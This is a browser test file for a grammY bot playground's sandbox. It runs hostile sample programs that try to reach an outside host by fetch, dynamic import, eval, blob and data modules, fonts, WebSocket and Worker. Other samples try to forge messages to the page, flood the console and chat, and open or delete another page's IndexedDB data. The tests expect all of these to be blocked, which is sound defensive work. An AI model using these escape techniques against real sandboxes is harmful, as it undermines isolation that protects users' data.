/**
 * Issue 11, items 1, 3, 4 and 8: hostile programs, opened from a shared link and run as a reader runs
 * them. A second server, on another host name (Chromium resolves "elsewhere.test" to this machine),
 * records every request it receives: whatever a program tries, it must receive none. Programs cannot
 * post to the page, flooding the console or the chat stops nothing but the program, and a program
 * cannot see, open or delete another page's databases.
 */
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { encodeSharedCode } from "../../playground/composables/share-link";
import { useBrowser } from "./browser";
import { startRecordingServer, type RecordingServer } from "./recording-server";
import { ENGLISH, SPANISH, runProgram, say, totals, waitReady } from "./playground-helpers";

const { open } = useBrowser({ viewport: { width: 1440, height: 900 } }, { args: ["--host-resolver-rules=MAP elsewhere.test 127.0.0.1"] });

let elsewhere: RecordingServer;
beforeAll(async () => {
  elsewhere = await startRecordingServer("127.0.0.1", "elsewhere.test");
});
afterAll(() => elsewhere.close());

/**
 * Requests to other origins that got an answer. The browser reports blocked attempts as requests too
 * (they fail at once, by policy), so the ones that count are those that finished.
 */
const answered: string[] = [];
afterEach(() => {
  expect(answered.splice(0)).toEqual([]);
});

async function openWith(program: string, locale: "en" | "es" = "en"): Promise<Page> {
  const { page } = await open(`${locale === "es" ? "/es" : ""}/playground/?example=pizza-memory#code=${encodeSharedCode(program)}`);
  page.on("requestfinished", (request) => {
    if (!request.url().startsWith(new URL(page.url()).origin) && !/^(blob|data):/.test(request.url())) answered.push(request.url());
  });
  await waitReady(page);
  return page;
}

const runStatus = (page: Page) => page.locator(".sl-playground").getAttribute("data-run-status");

async function consolePane(page: Page, locale: "en" | "es" = "en") {
  const pane = page.getByRole("region", { name: locale === "es" ? "Consola y errores" : "Console and errors" });
  if (!(await pane.isVisible())) await page.getByRole("button", { name: locale === "es" ? /^Consola/ : /^Console/ }).click();
  return pane;
}

/** A program that tries each way out in turn and logs how each one ended. */
const escapeArtist = (target: string) =>
  [
    'import { Bot } from "grammy";',
    "",
    `const target = ${JSON.stringify(target)};`,
    "const attempts: [string, () => Promise<unknown>][] = [",
    '  ["import", () => import(target + "/import.js")],',
    '  ["import json", () => import(target + "/data.json", { with: { type: "json" } })],',
    '  ["eval import", () => (0, eval)(`import("${target}/eval.js")`)],',
    '  ["Function import", () => new Function("t", "return import(t + \'/function.js\')")(target)],',
    '  ["data module", () => { const url = "data:text/javascript,import \'" + target + "/data-module.js\'"; return import(url); }],',
    '  ["blob module", () => import(URL.createObjectURL(new Blob([`import "${target}/blob-module.js";`], { type: "text/javascript" })))],',
    '  ["FontFace", () => new FontFace("f", `url(${target}/font.woff2)`).load()],',
    '  ["fonts", () => { const face = new FontFace("g", `url(${target}/fonts.woff2)`); (self as any).fonts.add(face); return (self as any).fonts.load("12px g"); }],',
    '  ["fetch", () => fetch(target + "/fetch")],',
    '  ["WebSocket", async () => new WebSocket(target.replace("http", "ws") + "/socket")],',
    '  ["Worker", async () => new Worker(target + "/worker.js")],',
    "];",
    "for (const [name, attempt] of attempts) {",
    "  try {",
    '    console.log(`${name}: reached`, await attempt());',
    "  } catch (error) {",
    '    console.log(`${name}: blocked`);',
    "  }",
    "}",
    'console.log("all attempts made");',
    'new Bot("").start();',
    "",
  ].join("\n");

describe("the network", { timeout: 240_000 }, () => {
  it("no request reaches another origin, by any means the program tries", async () => {
    const page = await openWith(escapeArtist(elsewhere.origin));
    await runProgram(page, ENGLISH);
    const pane = await consolePane(page);
    await pane.getByText("all attempts made").waitFor({ timeout: 30_000 });
    for (const name of ["import", "import json", "eval import", "Function import", "data module", "blob module", "FontFace", "fonts", "fetch", "WebSocket", "Worker"]) {
      await expect(pane.getByText(`${name}: blocked`, { exact: false }).count(), name).resolves.toBeGreaterThan(0);
    }
    await expect(pane.getByText(/: reached/).count()).resolves.toBe(0);
    expect(elsewhere.received).toEqual([]);
    await expect(runStatus(page)).resolves.toBe("running");
  });
});

/** Tries to speak to the page directly, as the runtime does, by every handle it can find. */
const forger = [
  'import { Bot, session } from "grammy";',
  "",
  "const fake = { type: \"storage\", id: 1, op: \"write\", key: \"1\", startedAt: 0, durationMs: 0, storageIndex: 0 };",
  "const handles: [string, () => unknown][] = [",
  '  ["self.postMessage", () => (self as any).postMessage([fake])],',
  '  ["prototype postMessage", () => Object.getPrototypeOf(self).postMessage.call(self, [fake])],',
  '  ["scope postMessage", () => (globalThis as any).DedicatedWorkerGlobalScope.prototype.postMessage.call(self, [fake])],',
  "];",
  "for (const [name, handle] of handles) {",
  "  try {",
  "    handle();",
  '    console.log(`${name}: sent`);',
  "  } catch {",
  '    console.log(`${name}: refused`);',
  "  }",
  "}",
  "// Patching the port's prototype changes nothing: the runtime kept its own reference.",
  "const original = MessagePort.prototype.postMessage;",
  "MessagePort.prototype.postMessage = function (this: MessagePort) { return original.call(this, [fake]); } as any;",
  'const bot = new Bot("");',
  "bot.use(session({ initial: () => ({ n: 0 }) }));",
  'bot.on("message:text", (ctx) => ctx.reply("still honest"));',
  "bot.start();",
  "",
].join("\n");

describe("the channel to the page", { timeout: 240_000 }, () => {
  it("is out of the program's reach: nothing forged arrives, and the counts stay true", async () => {
    const page = await openWith(forger);
    await runProgram(page, ENGLISH);
    await say(page, ENGLISH, "hello");
    await page.getByRole("log", { name: ENGLISH.chatRegion }).getByText("still honest").waitFor({ timeout: 20_000 });
    const pane = await consolePane(page);
    for (const name of ["self.postMessage", "prototype postMessage", "scope postMessage"]) {
      await pane.getByText(`${name}: refused`).waitFor({ timeout: 10_000 });
    }
    await expect(pane.getByText(/: sent/).count()).resolves.toBe(0);
    // One message, one read and one write: the session's, and nothing forged.
    await expect.poll(() => totals(page), { timeout: 15_000 }).toEqual({ read: 1, write: 1, delete: 0 });
    await expect(runStatus(page)).resolves.toBe("running");
  });
});

const consoleFlood = [
  'import { Bot } from "grammy";',
  "",
  "let n = 0;",
  "// Yields between bursts, so no watchdog ever sees a loop.",
  'setInterval(() => { for (let i = 0; i < 5000; i++) console.log("flood", n++); }, 5);',
  'new Bot("").start();',
  "",
].join("\n");

const syncFlood = [
  'import { Bot } from "grammy";',
  "",
  'for (let i = 0; i < 300_000; i++) console.log("line", i);',
  'console.log("loop done");',
  'const bot = new Bot("");',
  'bot.on("message:text", (ctx) => ctx.reply("answered after the loop"));',
  "bot.start();",
  "",
].join("\n");

const replyFlood = [
  'import { Bot } from "grammy";',
  "",
  'const bot = new Bot("");',
  'bot.on("message", async (ctx) => {',
  "  for (;;) {",
  '    for (let i = 0; i < 200; i++) void ctx.reply("spam " + i);',
  "    await new Promise((resolve) => setTimeout(resolve, 0));",
  "  }",
  "});",
  "bot.start();",
  "",
].join("\n");

describe("floods", { timeout: 240_000 }, () => {
  it("a console flood that yields shows its lines in part, says how many it left out, and the page keeps answering (es)", async () => {
    const page = await openWith(consoleFlood, "es");
    await runProgram(page, SPANISH);
    const pane = await consolePane(page, "es");
    await pane.getByText(/^[\d.]+ líneas sin mostrar: el programa escribió más rápido de lo que la página puede mostrar\.$/).first().waitFor({ timeout: 20_000 });
    // The page answers the reader in the middle of the flood: Stop works at once.
    await page.getByRole("button", { name: SPANISH.stop, exact: true }).click();
    await expect.poll(() => runStatus(page), { timeout: 15_000 }).toBe("stopped");
    await expect(page.getByText(/más de [\d.]+ eventos en un segundo/).count()).resolves.toBe(0);
  });

  it("300,000 lines in one synchronous loop cost the page only what it shows; the bot answers afterwards", async () => {
    const page = await openWith(syncFlood);
    await runProgram(page, ENGLISH);
    const pane = await consolePane(page);
    await pane.getByText("loop done").waitFor({ timeout: 60_000 });
    await expect(pane.getByText(/lines not shown: the program logged faster than the page can show\.$/).count()).resolves.toBeGreaterThan(0);
    await say(page, ENGLISH, "are you there?");
    await page.getByRole("log", { name: ENGLISH.chatRegion }).getByText("answered after the loop").waitFor({ timeout: 20_000 });
  });

  it("a program that floods the page with replies is stopped with a clear message", async () => {
    const page = await openWith(replyFlood);
    await runProgram(page, ENGLISH);
    await say(page, ENGLISH, "go");
    await expect.poll(() => runStatus(page), { timeout: 30_000 }).toBe("stopped");
    await page.getByText(/Stopped: the program sent the page more than 2,000 events in one second, more than it can show\./).waitFor({ timeout: 10_000 });
  });
});

/** Lists the databases it can see, then reaches for another page's. */
const snoop = (other: string) =>
  [
    'import { Bot } from "grammy";',
    "",
    "const names = (await indexedDB.databases()).map((d) => d.name);",
    'console.log("sees [" + names.filter((n) => n?.startsWith("session-lab:")).join(", ") + "]");',
    `for (const [name, act] of [["open", () => indexedDB.open(${JSON.stringify(other)})], ["delete", () => indexedDB.deleteDatabase(${JSON.stringify(other)})]] as const) {`,
    "  try {",
    "    act();",
    '    console.log(`${name}: allowed`);',
    "  } catch (error) {",
    '    console.log(`${name}: ${(error as Error).message}`);',
    "  }",
    "}",
    'new Bot("").start();',
    "",
  ].join("\n");

describe("other pages' data", { timeout: 240_000 }, () => {
  it("is out of sight and out of reach: the other page's database and its session survive", async () => {
    const other = "session-lab:/sessions/lazy:lazy";
    const page = await openWith(snoop(other));
    // The other page's sessions, as that page would have left them.
    await page.evaluate(
      (name) =>
        new Promise<void>((resolve, reject) => {
          const request = indexedDB.open(name);
          request.onupgradeneeded = () => request.result.createObjectStore("sessions");
          request.onsuccess = () => {
            const tx = request.result.transaction("sessions", "readwrite");
            tx.objectStore("sessions").put({ pizzaCount: 3 }, "424242");
            tx.oncomplete = () => (request.result.close(), resolve());
            tx.onerror = () => reject(tx.error);
          };
        }),
      other,
    );
    await runProgram(page, ENGLISH);
    const pane = await consolePane(page);
    await pane.getByText(/sees \[/).waitFor({ timeout: 20_000 });
    await expect(pane.getByText(/sees \[/).textContent()).resolves.not.toContain(other);
    for (const act of ["open", "delete"]) {
      await pane.getByText(`${act}: The playground keeps each page's sessions apart`, { exact: false }).waitFor({ timeout: 10_000 });
    }
    const kept = await page.evaluate(
      (name) =>
        new Promise<unknown>((resolve) => {
          const request = indexedDB.open(name);
          request.onsuccess = () => {
            const get = request.result.transaction("sessions").objectStore("sessions").get("424242");
            get.onsuccess = () => (request.result.close(), resolve(get.result));
          };
        }),
      other,
    );
    expect(kept).toEqual({ pizzaCount: 3 });
  });
});
